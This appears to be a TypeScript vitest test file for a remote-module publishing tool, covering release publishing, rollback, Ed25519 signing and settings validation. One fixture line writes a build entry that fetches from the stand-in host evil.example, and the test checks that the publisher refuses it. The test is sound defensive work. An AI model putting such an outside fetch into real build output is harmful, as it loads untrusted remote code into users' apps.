import { generateKeyPairSync } from "node:crypto";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { publishFolder } from "@trellis/remote-kit/commands/publish-folder.ts";
import { publishRelease, rollBackRelease } from "@trellis/remote-kit/release/publish-release.ts";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createTeam, integrityOf } from "../testing/releases.ts";
import { createWorld, type World } from "../testing/world.ts";
import { readPublishEnv } from "./publish-env.ts";

const folder = mkdtempSync(path.join(os.tmpdir(), "trellis-deploy-"));
let world: World;
let server: ReturnType<typeof Bun.serve>;
beforeAll(async () => {
  world = await createWorld();
  server = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: (request) => world.handle(request) });
  mkdirSync(path.join(folder, "dist"), { recursive: true });
  mkdirSync(path.join(folder, "node_modules/react"), { recursive: true });
  writeFileSync(path.join(folder, "node_modules/react/package.json"), '{"version":"19.0.0"}');
  writeFileSync(path.join(folder, "package.json"), '{"version":"2.0.0"}');
  writeFileSync(
    path.join(folder, "remote.json"),
    JSON.stringify({
      name: "stock",
      title: "Inventory",
      subtitle: "What is there",
      icon: "package",
      routes: ["/app/stock"],
      flag: null,
      organizationType: null,
      order: 70,
      widgets: [],
      requires: { runtime: "^1.0" },
    }),
  );
  build("first");
});
afterAll(async () => {
  await server?.stop(true);
  await world?.close();
  rmSync(folder, { recursive: true, force: true });
});

function build(mark: string) {
  const entry = `export const get = () => ({ "./remote": ${JSON.stringify(mark)}, }), init = 1;`;
  writeFileSync(path.join(folder, "dist/remoteEntry.js"), entry);
  writeFileSync(path.join(folder, "dist/integrity.json"), integrityOf({ "remoteEntry.js": entry }));
}

test("the publishing command works by HTTP with the key alone, and prints what is refused", async () => {
  const { secret } = await createTeam(world, "stock");
  const to = { url: `http://127.0.0.1:${server.port}`, key: secret };
  const first = await publishRelease(to, "stock", folder);
  expect(first).toMatch(/^stock 2\.0\.0-[0-9a-f]{12} published$/);
  expect(await publishRelease(to, "stock", folder)).toContain("is the current release already");
  build("second");
  await publishRelease(to, "stock", folder);
  const version = first.split(" ")[1] ?? "";
  expect(await rollBackRelease(to, "stock", version)).toBe(`stock is at ${version} again`);
  const { remotes } = (await (await world.visitor.get("/api/remotes")).json()) as { remotes: { version: string }[] };
  expect(remotes.map((remote) => remote.version)).toEqual([version]);

  writeFileSync(path.join(folder, "dist/remoteEntry.js"), 'fetch("https://evil.example/x")');
  await expect(publishRelease(to, "stock", folder)).rejects.toThrow(
    /^This release can't be published[\s\S]*remoteEntry\.js: It loads from evil\.example/,
  );
  await expect(publishRelease({ ...to, key: "wrong" }, "stock", folder)).rejects.toThrow(/isn't valid/);
});

test("a release is signed with the key of --sign, and a key of another kind is refused in words", async () => {
  const { privateKey, publicKey } = generateKeyPairSync("ed25519");
  world.services.env.remoteSigners = [{ remote: "stock", name: "ann", key: publicKey }];
  const { secret } = await createTeam(world, "stock");
  const variables = { PUBLISH_TO: `http://127.0.0.1:${server.port}`, DEPLOY_KEY: secret };
  build("signed");
  const unchecked = { skipAccessibility: "This test has no browser" };
  const pem = path.join(folder, "key.pem");
  await expect(publishFolder(folder, variables, unchecked)).rejects.toThrow(/accepts only signed releases/);
  writeFileSync(pem, publicKey.export({ type: "spki", format: "pem" }));
  await expect(publishFolder(folder, variables, { ...unchecked, sign: pem })).rejects.toThrow(/Ed25519 private key/);
  writeFileSync(pem, privateKey.export({ type: "pkcs8", format: "pem" }));
  expect(await publishFolder(folder, variables, { ...unchecked, sign: pem })).toContain("published");
  world.services.env.remoteSigners = [];
});

describe("the settings", () => {
  test("name an https address and the key, both or none", () => {
    expect(readPublishEnv({}).deployTo).toBeUndefined();
    const both = { PUBLISH_TO: "https://suite.example.org/x", DEPLOY_KEY: "deploykey_a" };
    expect(readPublishEnv(both).deployTo).toEqual({ url: "https://suite.example.org", key: "deploykey_a" });
    expect(() => readPublishEnv({ PUBLISH_TO: "https://suite.example.org" })).toThrow(/Set both/);
    for (const address of ["http://suite.example.org", "suite"])
      expect(() => readPublishEnv({ ...both, PUBLISH_TO: address })).toThrow(/must be an https address/);
  });
});
